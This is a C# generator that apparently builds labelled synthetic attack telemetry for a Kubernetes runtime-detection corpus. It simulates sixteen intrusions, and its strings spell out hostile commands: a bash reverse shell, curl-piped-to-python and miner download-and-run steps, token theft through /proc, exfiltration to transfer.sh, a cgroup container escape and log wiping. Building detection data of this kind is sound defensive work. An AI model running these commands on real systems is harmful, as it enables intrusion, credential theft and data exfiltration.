using static RuntimeSentinel.Generators.Corpus.SensorJson;

namespace RuntimeSentinel.Generators.Corpus;

/// <summary>
/// Attacks that do something the workload never does: a new process, file, peer, kernel call or container. Each
/// picks a target the cluster has when it runs, and labels it with its window.
/// </summary>
internal sealed class NewAttacks(ClusterWorld w, ClusterAttacks a)
{
    public List<AttackPlan> Pool =>
    [
        new("ephemeral-debug-container", false, 2, () => a.Apps.Count > 0, DebugContainer),
        new("injected-sidecar-exfil", false, 5, () => a.Apps.Any(d => d.Sidecar is null), InjectedSidecar),
        new("proc-root-token-theft", false, 1, () => a.With("node-exporter").Count > 0 || a.Apps.Any(d => d.Meshed), ProcRootToken),
        new("cloud-metadata-credentials", false, 1, () => a.Apps.Count > 0, Metadata),
        new("container-escape", false, 1, () => true, Escape),
        new("reverse-shell-from-runtime", false, 1, () => a.With("spring-boot", "node-web").Count > 0, ReverseShell),
        new("disguised-miner", false, 2, () => a.Apps.Count > 0, Miner),
        new("log-tampering", false, 1, () => true, LogTampering),
        new("celery-pickle-rce", false, 1, () => a.With("celery-worker").Count > 0, Pickle),
        new("dns-tunnel-from-sidecar", false, 2, () => a.Apps.Any(d => d.Sidecar is not null), DnsTunnel),
        new("webshell-interpreter", false, 1, () => a.With("php-fpm", "puma").Count > 0, WebShell),
        new("db-shell-dump", false, 1, () => a.With("mysql", "mongodb").Count > 0, DbShell),
        new("sa-token-api-recon", false, 1, () => a.Apps.Count > 0, TokenRecon),
        new("package-install-and-scan", false, 2, () => a.With("spring-boot", "node-web", "puma", "celery-worker").Count > 0, PackageInstall),
        new("ingress-controller-rce", false, 1, () => a.With("ingress-nginx").Count > 0, IngressRce),
        new("privesc-suid-drop", false, 1, () => a.Apps.Any(d => d.Running.First().Main.Uid != 0), Privesc),
    ];

    private void DebugContainer(DateTimeOffset t)
    {
        var d = a.Choose(a.Apps);
        var pod = a.PodOf(d);
        // kubectl debug -it <pod> --image=busybox:1.36 --target=<container>: a new container in the running pod,
        // sharing the target's process namespace (its /proc/1 is the app's entrypoint).
        var dbg = w.Container(pod, $"debugger-{w.Token(5)}", "docker.io/library/busybox:1.36", "sha256:768e5c6f5cb6db0794eec98dc7a967f40631746c32232b78a3105fb946f3ab83", t);
        var sh = w.Spawn(dbg, "/bin/sh", "", t, null, 0);
        dbg.Processes.Add(sh);
        w.Exec(sh);
        var at = a.Type(dbg, sh, t.AddSeconds(6), "/bin/id", "/bin/ps aux", "/bin/ls -la /proc/1/root/");
        var cat = a.Run(dbg, sh, "/bin/cat /proc/1/environ", at);
        w.File(cat, at.AddMilliseconds(2), "/proc/1/environ", false);
        at = at.AddSeconds(4);
        var token = a.Run(dbg, sh, "/bin/cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token", at);
        w.File(token, at.AddMilliseconds(2), $"/proc/1/root/{(d.A.RunLink ? "run" : "var/run")}/secrets/kubernetes.io/serviceaccount/{w.Runtime(pod).TokenDir}/token", false);
        at = at.AddSeconds(5);
        if (d.Peers.Values.FirstOrDefault(p => p.Service is not null)?.Service is { } peer)
        {
            var wget = a.Run(dbg, sh, $"/bin/wget -qO- http://{peer.W.Name}.{peer.W.Namespace}:{peer.W.ServicePort}/", at, 400);
            w.Net.Call(dbg, wget, peer, at.AddMilliseconds(3), 160, 4_000, 1);
            at = at.AddSeconds(3);
        }

        var nslookup = a.Run(dbg, sh, "/bin/nslookup kubernetes.default", at, 60);
        w.Net.Resolve(dbg, nslookup, "kubernetes.default", [w.Flavor.ApiServer], 30, at.AddMilliseconds(2));
        w.Exit(sh, at.AddSeconds(20));
        a.Label("ephemeral-debug-container", false, d, [pod], t, at.AddSeconds(20), $"kubectl debug adds an ephemeral busybox container ({dbg.ContainerName}) to {pod.Name}: a shell, the app's environment and token through /proc/1, a peer probed");
    }

    private void InjectedSidecar(DateTimeOffset t)
    {
        var d = a.Choose(a.Apps.Where(x => x.Sidecar is null).ToList());
        // A patched pod template (stolen deploy credentials): a rollout whose pods carry one more container.
        d.W.Digest = w.Digest();
        var pods = new List<CorpusPod>();
        var at = t;
        foreach (var old in d.Running.ToList())
        {
            var pod = w.NewPod(d, at, 0, seen: true);
            pods.Add(pod);
            var agent = w.Container(pod, "log-forwarder", "ghcr.io/l0g-f0rward/agent:0.9.1", "sha256:" + w.Hex(32), at.AddMilliseconds(150));
            var p = w.Spawn(agent, "/agent", "--forward=tls://45.134.26.11:443 --watch=/shared", at.AddMilliseconds(150), null, 0);
            agent.Processes.Add(p);
            w.Exec(p);
            w.File(p, at.AddSeconds(2), $"{d.ConfigMount}/{d.ConfigDir}/{d.ConfigFile}", false);
            w.File(p, at.AddSeconds(2).AddMilliseconds(5), $"/var/run/secrets/kubernetes.io/serviceaccount/{w.Runtime(pod).TokenDir}/token", false);
            for (var i = 0; i < 6; i++)
            {
                a.Connect(agent, p, "45.134.26.11", 443, at.AddSeconds(5 + (i * 30)), 120_000 + w.R.Next(0, 200_000));
            }

            w.Stop(old, at.AddSeconds(20));
            at = at.AddSeconds(25);
        }

        a.Label("injected-sidecar-exfil", false, d, pods, t, at.AddMinutes(3), $"the pod template of {d.W.Name} gets a 'log-forwarder' container that reads the app's config and token and sends them to 45.134.26.11:443");
    }

    private void ProcRootToken(DateTimeOffset t)
    {
        if (a.With("node-exporter").FirstOrDefault() is { } ne)
        {
            // node-exporter shares the host's PID namespace: through /proc/<pid>/root it reaches any pod's files.
            var pod = a.PodOf(ne);
            var victim = w.Workloads.Where(x => x.A.ApiClient && x != ne).SelectMany(x => x.Running).FirstOrDefault(p => p.Node == pod.Node)
                ?? w.Workloads.Where(x => x != ne).SelectMany(x => x.Running).First();
            var sh = w.Kubelet.Session(pod, "/bin/sh", "", t, 65534);
            var at = a.Type(pod, sh, t.AddSeconds(4), "/bin/ps -ef");
            var cat = a.Run(pod, sh, $"/bin/cat /proc/{victim.Main.Pid}/root/var/run/secrets/kubernetes.io/serviceaccount/token", at);
            w.File(cat, at.AddMilliseconds(2), $"/proc/{victim.Main.Pid}/root/var/run/secrets/kubernetes.io/serviceaccount/token", false);
            var wget = a.Run(pod, sh, $"/bin/wget -qO- --header=Authorization: Bearer ... https://{w.Flavor.ApiServer}/api/v1/secrets", at.AddSeconds(5), 600);
            a.Connect(pod, wget, w.Flavor.ApiServer, 443, at.AddSeconds(5).AddMilliseconds(3), 1_100);
            a.Label("proc-root-token-theft", false, ne, [pod], t, at.AddSeconds(8), $"a shell in node-exporter (host PID namespace) reads {victim.Name}'s service-account token through /proc/{victim.Main.Pid}/root and lists secrets with it", w.Of(victim));
            return;
        }

        var d = a.Choose(a.Apps.Where(x => x.Meshed).ToList());
        var app = a.PodOf(d);
        var proxy = w.Runtime(app).Sidecar!;
        var shell = a.Run(app, d.A.Worker(w, d, app), "/bin/sh -c cat /proc/$(pgrep -o envoy)/root/var/run/secrets/tokens/istio-token", t, 0);
        var reader = a.Run(app, shell, $"/bin/cat /proc/{proxy.Processes[^1].Pid}/root/var/run/secrets/tokens/istio-token", t.AddMilliseconds(30));
        w.File(reader, t.AddMilliseconds(32), $"/proc/{proxy.Processes[^1].Pid}/root/var/run/secrets/tokens/istio-token", false);
        w.Exit(shell, t.AddMilliseconds(80));
        a.Label("proc-root-token-theft", false, d, [app], t, t.AddSeconds(2), "an RCE in the app reads the sidecar's istio token through /proc/<envoy pid>/root (shared process namespace)");
    }

    private void Metadata(DateTimeOffset t)
    {
        var d = a.Choose(a.Apps);
        var pod = a.PodOf(d);
        var app = d.A.Worker(w, d, pod);
        // SSRF: the app itself fetches the instance metadata service for the node's credentials.
        var paths = w.Flavor.Name switch
        {
            "aks" => new[] { 900L },
            "eks" => [220, 180, 260],
            _ => [],
        };
        var at = t;
        if (paths.Length == 0)
        {
            for (var i = 0; i < 3; i++)
            {
                w.Net.Failed(pod, app, "169.254.169.254", 80, at, 2_000);
                at = at.AddSeconds(3);
            }
        }

        foreach (var bytes in paths)
        {
            var link = new Sock("tcp", pod.Ip, pod.EphemeralPort(), "169.254.169.254", 80, "TCP_SYN_SENT");
            w.Tetragon(at, Kprobe(app, pod.Node.Name, at, "tcp_connect", "network-observability", SockArgs(link)));
            w.Net.Send(app, link, bytes, at.AddMilliseconds(1));
            w.Tetragon(at.AddMilliseconds(4), Kprobe(app, pod.Node.Name, at.AddMilliseconds(4), "tcp_close", "network-observability", SockArgs(link with { State = "TCP_ESTABLISHED" })));
            at = at.AddMilliseconds(300 + w.R.Next(0, 600));
        }

        a.Label("cloud-metadata-credentials", false, d, [pod], t, at.AddSeconds(2), "SSRF: the app fetches the cloud's instance metadata (169.254.169.254) for the node role's credentials");
    }

    private void Escape(DateTimeOffset t)
    {
        var d = a.Choose(a.With("fluent-bit", "node-exporter") is { Count: > 0 } privileged ? privileged : a.Apps.Count > 0 ? a.Apps : w.Workloads.Where(x => x.Running.Any()).ToList());
        var pod = a.PodOf(d);
        var sh = w.Kubelet.Session(pod, "/bin/sh", "", t, 0);
        var at = t.AddSeconds(5);
        var nsenter = a.Run(pod, sh, "/usr/bin/nsenter -t 1 -m -u -i -n -p -- /bin/sh", at, 0);
        foreach (var ns in new long[] { 0x20000, 0x4000000, 0x8000000, 0x40000000, 0x20000000 })
        {
            w.Call(nsenter, at.AddMilliseconds(2), "__x64_sys_setns", "namespaces", 3, ns);
        }

        w.Exit(nsenter, at.AddMilliseconds(40), 1);
        at = at.AddSeconds(4);
        a.Run(pod, sh, "/bin/mkdir -p /tmp/cgrp", at);
        var mount = a.Run(pod, sh, "/bin/mount -t cgroup -o rdma cgroup /tmp/cgrp", at.AddSeconds(2));
        w.Call(mount, at.AddSeconds(2).AddMilliseconds(1), "__x64_sys_mount", "namespaces", 0, 0);
        at = at.AddSeconds(4);
        w.File(sh, at, "/tmp/cgrp/x/notify_on_release", true);
        w.File(sh, at.AddMilliseconds(300), "/tmp/cgrp/release_agent", true);
        w.Falco.Alert("Detect release_agent File Container Escapes", "Critical", "Detect an attempt to exploit a container escape using release_agent file", at.AddMilliseconds(301), pod, sh, "/tmp/cgrp/release_agent", "openat", "container", "mitre_privilege_escalation", "T1611");
        w.File(sh, at.AddSeconds(2), "/proc/sys/kernel/core_pattern", true);
        var hostMount = a.Run(pod, sh, "/bin/mount /dev/nvme0n1p1 /mnt", at.AddSeconds(4));
        w.Call(hostMount, at.AddSeconds(4).AddMilliseconds(1), "__x64_sys_mount", "namespaces", 0, 0);
        a.Label("container-escape", false, d, [pod], t, at.AddSeconds(8), "escape attempts from a container: nsenter into PID 1's namespaces, a cgroup mount with release_agent, core_pattern, mounting the host disk");
    }

    private void ReverseShell(DateTimeOffset t)
    {
        var d = a.Choose(a.With("spring-boot", "node-web"));
        var pod = a.PodOf(d);
        var app = d.A.Worker(w, d, pod);
        var sh = a.Run(pod, app, "/bin/sh -c bash -i >& /dev/tcp/198.51.100.77/4444 0>&1", t, 0);
        var bash = a.Run(pod, sh, "/bin/bash -i", t.AddMilliseconds(8), 0);
        a.Connect(pod, bash, "198.51.100.77", 4444, t.AddMilliseconds(12), 90);
        var at = a.Type(pod, bash, t.AddSeconds(4), "/usr/bin/id", "/bin/uname -a", "/bin/cat /etc/passwd", "/bin/ls -la /app");
        a.Connect(pod, bash, "198.51.100.77", 4444, at, 6_400);
        w.Exit(bash, at.AddSeconds(1));
        a.Label("reverse-shell-from-runtime", false, d, [pod], t, at.AddSeconds(1), $"RCE in {ClusterAttacks.RuntimeName(d)}: the runtime starts sh, a bash reverse shell to 198.51.100.77:4444, recon");
    }

    private void Miner(DateTimeOffset t)
    {
        var d = a.Choose(a.Apps);
        var pod = a.PodOf(d);
        var name = ClusterAttacks.RuntimeName(d);
        var app = d.A.Worker(w, d, pod);
        var sh = a.Run(pod, app, $"/bin/sh -c curl -fsSL http://203.0.113.50/x -o /tmp/.cache/{name} && chmod +x /tmp/.cache/{name} && /tmp/.cache/{name} -c /tmp/.cache/config.json", t, 0);
        var curl = a.Run(pod, sh, $"/usr/bin/curl -fsSL http://203.0.113.50/x -o /tmp/.cache/{name}", t.AddMilliseconds(5), 2_500);
        a.Connect(pod, curl, "203.0.113.50", 80, t.AddMilliseconds(10), 180);
        w.File(curl, t.AddSeconds(2), $"/tmp/.cache/{name}", true);
        a.Run(pod, sh, $"/bin/chmod +x /tmp/.cache/{name}", t.AddSeconds(3));
        var miner = a.Run(pod, sh, $"/tmp/.cache/{name} -c /tmp/.cache/config.json", t.AddSeconds(3).AddMilliseconds(20), 0);
        w.Falco.Alert("Drop and execute new binary in container", "Critical", $"Executing binary not part of base image (proc_exe=/tmp/.cache/{name})", t.AddSeconds(3).AddMilliseconds(25), pod, miner, null, "execve", "container", "process", "mitre_persistence", "TA0003");
        var pool = new Peer { Host = "pool.supportxmr.com", Ips = ["141.94.96.71", "51.255.34.118"], Port = 443, Ttl = 60 };
        for (var i = 0; i < 8; i++)
        {
            w.Net.External(pod, miner, pool, t.AddSeconds(5 + (i * 15)), 200 + w.R.Next(0, 120), 0);
        }

        a.Label("disguised-miner", false, d, [pod], t, t.AddSeconds(125), $"a miner dropped in /tmp/.cache and named '{name}' like the app's runtime, mining to a pool on 443");
    }

    private void LogTampering(DateTimeOffset t)
    {
        if (a.With("fluent-bit").FirstOrDefault() is { } fb)
        {
            var pod = a.PodOf(fb);
            var sh = w.Kubelet.Session(pod, "/bin/sh", "", t, 0);
            var at = t.AddSeconds(3);
            foreach (var c in w.Workloads.SelectMany(x => x.Running).Where(p => p.Node == pod.Node && p != pod).Take(3))
            {
                var truncate = a.Run(pod, sh, $"/usr/bin/truncate -s 0 {ClusterWorld.LogPath(c)}", at);
                a.Truncate(truncate, at.AddMilliseconds(1), ClusterWorld.LogPath(c));
                w.Falco.Alert("Clear Log Activities", "Warning", "Log files were tampered", at.AddMilliseconds(2), pod, truncate, ClusterWorld.LogPath(c), "truncate", "container", "filesystem", "mitre_defense_evasion", "T1070");
                at = at.AddSeconds(2);
            }

            var rm = a.Run(pod, sh, "/bin/rm -f /var/fluent-bit/state/flb_container.db", at);
            w.File(rm, at.AddMilliseconds(1), "/var/fluent-bit/state/flb_container.db", true);
            a.Label("log-tampering", false, fb, [pod], t, at.AddSeconds(2), "a shell in the log shipper (it mounts /var/log) truncates other pods' logs and deletes its offsets database");
            return;
        }

        var d = a.Choose(a.Apps.Count > 0 ? a.Apps : w.Workloads.Where(x => x.Running.Any()).ToList());
        var target = a.PodOf(d);
        var shell = a.Run(target, d.A.Worker(w, d, target), "/bin/sh -c truncate -s 0 /var/log/*.log /tmp/*.log; rm -f ~/.bash_history", t, 0);
        foreach (var (path, i) in new[] { "/var/log/app.log", "/var/log/access.log", "/tmp/app.log" }.Select((p, i) => (p, i)))
        {
            var truncate = a.Run(target, shell, $"/usr/bin/truncate -s 0 {path}", t.AddMilliseconds(10 + (i * 20)));
            a.Truncate(truncate, t.AddMilliseconds(11 + (i * 20)), path);
        }

        w.Exit(shell, t.AddMilliseconds(200));
        a.Label("log-tampering", false, d, [target], t, t.AddSeconds(2), "the attacker truncates the container's log files to cover their tracks");
    }

    private void Pickle(DateTimeOffset t)
    {
        var d = a.Choose(a.With("celery-worker"));
        var pod = a.PodOf(d);
        var child = d.A.Worker(w, d, pod);
        // A task message serialized with pickle: unpickling runs os.system.
        var sh = a.Run(pod, child, "/bin/sh -c curl -s http://203.0.113.45/p.py | python3 -", t, 0);
        var curl = a.Run(pod, sh, "/usr/bin/curl -s http://203.0.113.45/p.py", t.AddMilliseconds(5), 600);
        a.Connect(pod, curl, "203.0.113.45", 80, t.AddMilliseconds(8), 160);
        var py = a.Run(pod, sh, "/usr/local/bin/python3 -", t.AddMilliseconds(6), 0);
        w.File(py, t.AddSeconds(1), "/proc/self/environ", false);
        w.File(py, t.AddSeconds(1).AddMilliseconds(3), $"{d.ConfigMount}/{d.ConfigDir}/{d.ConfigFile}", false);
        a.Connect(pod, py, "203.0.113.45", 80, t.AddSeconds(2), 14_000);
        w.Exit(py, t.AddSeconds(3));
        w.Exit(sh, t.AddSeconds(3));
        a.Label("celery-pickle-rce", false, d, [pod], t, t.AddSeconds(4), "a pickled task runs a shell in a Celery child: a script fetched and piped to python sends the environment and settings out");
    }

    private void DnsTunnel(DateTimeOffset t)
    {
        var d = a.Choose(a.Apps.Where(x => x.Sidecar is not null).ToList());
        var pod = a.PodOf(d);
        var sidecar = w.Runtime(pod).Sidecar!;
        var proc = sidecar.Processes[0];
        var end = t;
        for (var i = 0; i < 40; i++)
        {
            end = t.AddMilliseconds(i * 2_500);
            w.Net.Resolve(sidecar, proc, $"{w.Token(30)}.{w.Token(20)}.q.cdn-metrics.example.", ["198.51.100.3"], 0, end);
        }

        a.Label("dns-tunnel-from-sidecar", false, d, [pod], t, end.AddSeconds(1), $"a backdoored {sidecar.ContainerName} sidecar leaks data in DNS questions to an attacker's zone, one random label after another");
    }

    private void WebShell(DateTimeOffset t)
    {
        var d = a.Choose(a.With("php-fpm", "puma"));
        var pod = a.PodOf(d);
        var worker = d.A.Worker(w, d, pod);
        var dropped = d.A.Key == "php-fpm" ? "/var/www/html/wp-content/uploads/2026/11/cache.php" : "/rails/public/uploads/tmp/x.erb";
        w.File(worker, t, dropped, true);
        var sh = a.Run(pod, worker, "/bin/sh -c id;uname -a;cat /etc/passwd;ls -la", t.AddSeconds(20), 0);
        var at = a.Type(pod, sh, t.AddSeconds(20).AddMilliseconds(5), "/usr/bin/id", "/bin/uname -a", "/bin/cat /etc/passwd", "/bin/ls -la");
        w.Exit(sh, at);
        a.Label("webshell-interpreter", false, d, [pod], t, at.AddSeconds(1), "a web shell uploaded through the app, then used: the interpreter's worker runs sh and recon commands");
    }

    private void DbShell(DateTimeOffset t)
    {
        var d = a.Choose(a.With("mysql", "mongodb"));
        var pod = a.PodOf(d);
        var bash = w.Kubelet.Session(pod, "/bin/bash", "", t, 0);
        w.Falco.Alert("Terminal shell in container", "Notice", "A shell was spawned in a container with an attached terminal", t.AddMilliseconds(20), pod, bash, null, "execve", "container", "shell", "mitre_execution", "T1059");
        var dump = d.A.Key == "mysql" ? "/usr/bin/mysqldump -uroot -p********* --all-databases --result-file=/tmp/all.sql" : "/usr/bin/mongodump --archive=/tmp/all.archive";
        var file = d.A.Key == "mysql" ? "/tmp/all.sql" : "/tmp/all.archive";
        var at = a.Type(pod, bash, t.AddSeconds(6), d.A.Key == "mysql" ? "/usr/bin/mysql -uroot -p********* -e select user,authentication_string from mysql.user" : "/usr/bin/mongosh --quiet --eval db.getSiblingDB('admin').getUsers()");
        var p = a.Run(pod, bash, dump, at, 4_000);
        w.File(p, at.AddSeconds(3), file, true);
        at = at.AddSeconds(6);
        var curl = a.Run(pod, bash, $"/usr/bin/curl -s -T {file} https://transfer.sh/all", at, 3_000);
        w.Net.External(pod, curl, new Peer { Host = "transfer.sh", Ips = ["144.76.136.153"], Port = 443, Ttl = 300 }, at.AddMilliseconds(3), 18_000_000);
        a.Label("db-shell-dump", false, d, [pod], t, at.AddSeconds(5), "a stolen kubeconfig: kubectl exec into the database, its users read, everything dumped and uploaded to transfer.sh");
    }

    private void TokenRecon(DateTimeOffset t)
    {
        var d = a.Choose(a.Apps);
        var pod = a.PodOf(d);
        var sh = a.Run(pod, d.A.Worker(w, d, pod), "/bin/sh -c cd /tmp && curl -sLO https://dl.k8s.io/release/v1.31.2/bin/linux/amd64/kubectl && chmod +x kubectl && ./kubectl auth can-i --list && ./kubectl get secrets -A", t, 0);
        var curl = a.Run(pod, sh, "/usr/bin/curl -sLO https://dl.k8s.io/release/v1.31.2/bin/linux/amd64/kubectl", t.AddMilliseconds(5), 4_000);
        w.Net.External(pod, curl, new Peer { Host = "dl.k8s.io", Ips = ["34.107.204.206"], Port = 443, Ttl = 300 }, t.AddMilliseconds(10), 900);
        w.File(curl, t.AddSeconds(3), "/tmp/kubectl", true);
        var at = t.AddSeconds(5);
        foreach (var args in new[] { "auth can-i --list", "get secrets -A" })
        {
            var kubectl = a.Run(pod, sh, "/tmp/kubectl " + args, at, 800);
            d.A.ReadToken(w, pod, kubectl, at.AddMilliseconds(20));
            a.Connect(pod, kubectl, w.Flavor.ApiServer, 443, at.AddMilliseconds(30), 1_400);
            at = at.AddSeconds(2);
        }

        w.Exit(sh, at);
        a.Label("sa-token-api-recon", false, d, [pod], t, at.AddSeconds(1), "from an app that never talks to the API server: kubectl downloaded, the pod's token used to list permissions and secrets");
    }

    private void PackageInstall(DateTimeOffset t)
    {
        var d = a.Choose(a.With("spring-boot", "node-web", "puma", "celery-worker"));
        var pod = a.PodOf(d);
        var sh = w.Kubelet.Session(pod, "/bin/sh", "", t, 0);
        var apt = a.Run(pod, sh, "/usr/bin/apt-get install -y nmap", t.AddSeconds(4), 9_000);
        w.Falco.Alert("Launch Package Management Process in Container", "Error", "Package management process launched in container", t.AddSeconds(4).AddMilliseconds(5), pod, apt, null, "execve", "container", "process", "software_mgmt", "mitre_persistence", "T1505");
        var http = a.Run(pod, apt, "/usr/lib/apt/methods/http", t.AddSeconds(4).AddMilliseconds(30), 6_000);
        w.Net.External(pod, http, new Peer { Host = "deb.debian.org", Ips = ["151.101.2.132", "151.101.66.132"], Port = 80, Ttl = 300 }, t.AddSeconds(4).AddMilliseconds(40), 600);
        var dpkg = a.Run(pod, apt, "/usr/bin/dpkg --status-fd 26 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/nmap_7.93+dfsg1-1_amd64.deb", t.AddSeconds(11), 1_500);
        w.File(dpkg, t.AddSeconds(12), "/var/lib/dpkg/status", true);
        var nmap = a.Run(pod, sh, $"/usr/bin/nmap -sT -Pn -p 22,80,443,2379,3306,5432,6379,8080,9200,10250 {pod.Ip[..(pod.Ip.LastIndexOf('.') + 1)]}0/28", t.AddSeconds(20), 0);
        var at = t.AddSeconds(20);
        var prefix = pod.Ip[..(pod.Ip.LastIndexOf('.') + 1)];
        foreach (var port in new[] { 22, 80, 443, 2379, 3306, 5432, 6379, 8080, 9200, 10250 })
        {
            for (var host = 1; host < 5; host++)
            {
                w.Net.Failed(pod, nmap, prefix + host, port, at, 1);
                at = at.AddMilliseconds(40);
            }
        }

        w.Exit(nmap, at);
        a.Label("package-install-and-scan", false, d, [pod], t, at.AddSeconds(1), "kubectl exec: apt-get installs nmap from deb.debian.org, which scans the pod's neighbours");
    }

    private void IngressRce(DateTimeOffset t)
    {
        var d = a.Choose(a.With("ingress-nginx"));
        var pod = a.PodOf(d);
        var controller = pod.Processes[1];
        // An unauthenticated AdmissionReview from a pod reaches the controller's webhook on 8443 (IngressNightmare).
        var attacker = w.Pick(a.Apps.Count > 0 ? a.Apps : [d]);
        var from = a.PodOf(attacker);
        w.Net.Inbound(pod, controller, 8443, from.Ip, t, 300);
        w.File(pod.Processes[3], t.AddMilliseconds(5), "/tmp/nginx/client-body/0000000007", true);
        w.File(controller, t.AddMilliseconds(40), "/tmp/nginx/nginx-cfg2871", true);
        var test = a.Run(pod, controller, "/usr/bin/nginx -c /tmp/nginx/nginx-cfg2871 -t", t.AddMilliseconds(45), 0);
        w.File(test, t.AddMilliseconds(48), $"/proc/{pod.Processes[3].ContainerPid}/fd/11", false);
        var sh = a.Run(pod, test, "/bin/sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token", t.AddMilliseconds(60), 40);
        d.A.ReadToken(w, pod, sh, t.AddMilliseconds(62));
        a.Connect(pod, sh, w.Flavor.ApiServer, 443, t.AddSeconds(1), 1_200);
        w.Exit(test, t.AddSeconds(2));
        a.Label("ingress-controller-rce", false, d, [pod], t, t.AddSeconds(3), "IngressNightmare-style: a crafted admission request makes 'nginx -t' load a library from a client-body buffer; it runs a shell that takes the controller's token", attacker);
    }

    private void Privesc(DateTimeOffset t)
    {
        var d = a.Choose(a.Apps.Where(x => x.Running.First().Main.Uid != 0).ToList());
        var pod = a.PodOf(d);
        var app = d.A.Worker(w, d, pod);
        w.File(app, t, "/tmp/.s", true);
        var sh = a.Run(pod, app, "/bin/sh -c chmod +x /tmp/.s && /tmp/.s", t.AddSeconds(1), 0);
        a.Run(pod, sh, "/bin/chmod +x /tmp/.s", t.AddSeconds(1).AddMilliseconds(3));
        var s = a.Run(pod, sh, "/tmp/.s", t.AddSeconds(1).AddMilliseconds(8), 0);
        w.Call(s, t.AddSeconds(1).AddMilliseconds(10), "__x64_sys_setuid", "privileges", 0);
        w.Call(s, t.AddSeconds(1).AddMilliseconds(11), "commit_creds", "privileges", 0);
        a.Run(pod, s, "/usr/bin/id", t.AddSeconds(2));
        a.Label("privesc-suid-drop", false, d, [pod], t, t.AddSeconds(3), "an exploit dropped in /tmp by the app's process raises its privileges (setuid(0), new credentials)");
    }
}
